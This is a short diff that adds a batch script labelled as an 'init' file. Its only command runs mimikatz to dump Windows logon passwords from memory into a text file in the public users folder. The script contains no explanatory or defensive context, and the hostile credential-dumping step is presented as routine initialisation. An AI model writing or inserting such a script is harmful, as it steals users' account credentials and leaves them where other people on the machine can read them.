@@ -1,0 +1,2 @@
+REM init 1894 v3
+mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Users\Public\m.txt
